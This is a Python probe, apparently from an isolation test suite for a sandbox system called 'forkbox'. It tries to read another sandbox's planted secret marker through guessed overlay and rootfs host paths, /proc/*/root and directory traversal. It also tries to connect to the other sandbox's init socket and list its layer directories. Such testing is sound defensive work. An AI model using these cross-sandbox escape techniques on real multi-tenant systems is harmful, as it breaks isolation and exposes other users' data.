"""Reach another sandbox's files: its overlay upper dir and rootfs by host path, /proc/*/root, and its init socket under the run dir."""
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import glob  # noqa: E402
import socket  # noqa: E402


def own_layer_paths():
    out = []
    with open("/proc/self/mountinfo") as f:
        for line in f:
            for opt in line.replace(" ", ",").split(","):
                if opt.startswith(("upperdir=", "lowerdir=", "workdir=")):
                    out.append(opt.split("=", 1)[1])
    return out


def main():
    other = os.environ.get("FB_OTHER_ID")
    marker = os.environ.get("FB_OTHER_MARKER")
    secret = os.environ.get("FB_OTHER_SECRET", "").encode()
    me = os.environ.get("FB_SANDBOX_ID", "")
    if not (other and marker and secret):
        print("ERROR: FB_OTHER_ID/FB_OTHER_MARKER/FB_OTHER_SECRET not set")
        sys.exit(2)
    candidates = [marker]
    state = os.environ.get("FB_STATE_DIR", "/var/lib/forkbox")
    layer_dirs = ["%s/sandboxes/%s/%s" % (state, other, d) for d in ("upper", "rootfs", "lower", "work")]
    # our own layer paths, with our id swapped for theirs
    for p in own_layer_paths():
        if me and me in p:
            layer_dirs.append(p.replace(me, other))
    for d in dict.fromkeys(layer_dirs):
        candidates.append(d + marker)
    roots = ["/proc/%s/root" % p for p in os.listdir("/proc") if p.isdigit()] + ["/proc/self/cwd/../../.."]
    for r in roots:
        candidates += [r + c for c in list(candidates[:1 + len(layer_dirs)])]
    candidates += glob.glob("/var/lib/forkbox*/sandboxes/*/upper" + marker)
    tried = 0
    for c in dict.fromkeys(candidates):
        tried += 1
        try:
            with open(c, "rb") as f:
                data = f.read(4096)
        except OSError:
            continue
        if secret in data:
            ESCAPES.append("read the other sandbox's secret through %s" % c)
        else:
            ESCAPES.append("opened %s (no secret inside)" % c)
    NOTES.append("%d paths to the other sandbox's marker tried, none opened" % tried)
    run = os.environ.get("FB_RUN_DIR", "/run/forkbox")
    for sock in ("%s/sandboxes/%s/init.sock" % (run, other), "/run/forkbox/sandboxes/%s/init.sock" % other):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(sock)
            ESCAPES.append("connected to the other sandbox's init socket %s" % sock)
        except OSError as e:
            NOTES.append("connect %s: %s" % (sock, en(e.errno)))
        s.close()
    for d in layer_dirs[:2]:
        try:
            os.listdir(d)
            ESCAPES.append("listed %s" % d)
        except OSError as e:
            NOTES.append("list %s: %s" % (d, en(e.errno)))


if __name__ == "__main__":
    finish(main)
